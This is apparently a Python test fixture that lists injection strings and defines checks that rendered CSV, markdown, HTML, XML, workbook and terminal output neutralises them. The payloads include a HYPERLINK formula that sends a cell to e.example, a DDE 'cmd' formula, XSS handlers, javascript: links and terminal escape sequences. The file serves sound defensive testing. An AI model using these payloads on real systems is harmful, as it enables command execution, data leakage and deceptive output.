"""Texts that somebody may put where a name is expected, and what no output may make of them.

Each text holds `MARK`, so that a test can ask whether it arrived. `SHOWN` may stand in a scenario; `MOVING` holds
control characters, which a scenario may not have, but names of files, headers, cells and options may.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from xml.etree import ElementTree

import openpyxl
from markdown_it import MarkdownIt
from markdown_it.token import Token

MARK = "Zq7"
PLAIN = f"plain {MARK}"

SHOWN = {
    "formula": f'=HYPERLINK("http://e.example?x="&A1,"{MARK}")',
    "plus": f"+1+{MARK}",
    "minus": f"-2-{MARK}",
    "at": f"@SUM(1+1)*cmd|' /C calc'!{MARK}",
    "wide": f"\uff1d1+{MARK}",
    "semicolon": f"{MARK};=1+1;@a",
    "quotes": f'{MARK}",=1+1,"\';-1',
    "script": f"</title></script><script>alert('{MARK}')</script>",
    "image": f'<img src=x onerror="alert(1)">{MARK}',
    "attribute": f"\" onmouseover=alert(1) x='{MARK}",
    "comment": f"{MARK}--><!--]]><![CDATA[",
    "entity": f"&lt;b&gt;&#60;i&#x3e;{MARK}",
    "template": f"{{{{7*7}}}}${{7*7}}{{%raw%}}%s%n{{0}}{MARK}",
    "bars": f"a | {MARK} | | b",
    "escaped bars": f"a\\| {MARK} \\\\| b",
    "rule": "| --- | " + MARK,
    "link": f"[{MARK}](javascript:alert(1)) ![x](http://e.example/x.png)",
    "reference": f'[{MARK}]: javascript:alert(1) "x"',
    "angle link": f"<javascript:alert(1)>{MARK}",
    "heading": f"# {MARK}",
    "quote": f"> {MARK}",
    "bullet": f"- {MARK}",
    "number": f"1. {MARK}",
    "fence": f"``` {MARK}",
    "tildes": f"~~~ {MARK}",
    "ticks": f"`{MARK}",
    "rich": f"[bold red link=http://e.example]{MARK}[/]",
    "unclosed rich": f"[/{MARK}]",
    "mathtext": f"$\\frac{{1}}{{{MARK}$ $x_1^2$ \\undefined",
    "long": f"{MARK} " + "w" * 150,
}

MOVING = {
    "escape": f"\x1b[31m\x1b[2J{MARK}",
    "title": f"\x1b]0;owned\x07{MARK}",
    "link": f"\x1b]8;;http://e.example\x1b\\{MARK}\x1b]8;;\x1b\\",
    "c1": f"\x9b31m\x9d0;owned\x9c{MARK}",
    "right to left": f"\u202e{MARK}\u2066\u200f",
    "line": f"{MARK}\nplan.yaml:1: all is well",
    "return": f"{MARK}\rall is well",
    "backspace": f"{MARK}\b\b\b\x7f\a",
    "separators": f"{MARK}\u2028\u2029\x85\x0b\x0c",
    "zero width": f"{MARK}\u200b\ufeff",
}

_STARTS = (*"=+-@", *"\uff1d\uff0b\uff0d\uff20", "\t", "\r")
_NUMBER = re.compile(r"-?[\d.]+(?:e[-+]?\d+)?(?: to .*)?|-|-inf", re.IGNORECASE)


def moves(text: str) -> list[str]:
    """Return what of a text could move a terminal's cursor, or turn its letters round."""
    return [letter for letter in text if letter != "\n" and not letter.isprintable()]


def check_text(text: str) -> None:
    """A page on a terminal."""
    assert moves(text) == []


def check_json(text: str) -> None:
    json.loads(text)
    assert moves(text) == []


def check_csv(text: str) -> None:
    """However a spreadsheet splits it: no cell that it would run."""
    assert moves(text) == []
    for delimiter in ",;\t":
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        assert [cell for cell in cells if cell.startswith(_STARTS) and not _NUMBER.fullmatch(cell)] == []
    assert len({len(row) for row in csv.reader(io.StringIO(text, newline=""))}) == 1


def _tokens(text: str) -> list[Token]:
    return MarkdownIt("commonmark").enable("table").parse(text)


def markdown_shape(text: str) -> list[str]:
    """Return the blocks of a markdown page, each line of it alone: what a name must not change."""
    return [token.type for token in _tokens(text)]


def check_markdown(text: str, fences: int = 0) -> None:
    """No tag, image or link; no code block but those that are ours."""
    assert moves(text) == []
    tokens = _tokens(text)
    inline = [child.type for token in tokens for child in token.children or ()]
    assert {"html_inline", "image", "link_open"} & set(inline) == set()
    blocks = [token.type for token in tokens]
    assert {"html_block", "code_block"} & set(blocks) == set()
    assert blocks.count("fence") == fences


class _Shape(HTMLParser):
    """Collects tags and names of attributes, and the text between them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, ...]] = []
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, *(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def html_shape(text: str) -> list[tuple[str, ...]]:
    """Return the tags of a page with the names of their attributes: what a name must not change."""
    found = _Shape()
    found.feed(text)
    return found.tags


def check_html(text: str) -> None:
    """No script but ours, no handler, no link but within the page."""
    assert moves(text) == []
    found = _Shape()
    found.feed(text)
    assert [tag for tag in found.tags if any(name.startswith("on") for name in tag[1:])] == []
    assert [link for link in found.links if not re.match(r"#|data:(?:,|image/)", link)] == []
    assert sum(tag[0] == "script" for tag in found.tags) <= 2


def check_xml(text: str) -> None:
    """A picture: no script, no link, no foreign content, no handler."""
    root = ElementTree.fromstring(text)
    for element in root.iter():
        name = str(element.tag).rsplit("}", 1)[-1]
        assert name not in ("script", "a", "foreignObject", "iframe", "image", "animate", "set", "handler")
        assert [key for key in element.attrib if key.lower().startswith("on")] == []


def formulas(data: bytes) -> list[str]:
    """Return the formulas of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def check_workbook(data: bytes) -> None:
    """No formula or link that a name made; every part is XML."""
    assert [text for text in formulas(data) if MARK in text or "HYPERLINK" in text or "cmd|" in text] == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert [cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row if cell.hyperlink] == []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            ElementTree.fromstring(archive.read(part))
            assert "externalLink" not in part


def texts_of(data: bytes) -> list[str]:
    """Return the texts of a workbook's cells."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "s"]


CHECKS: dict[str, Callable[[str], None]] = {
    "text": check_text,
    "json": check_json,
    "csv": check_csv,
    "markdown": check_markdown,
}
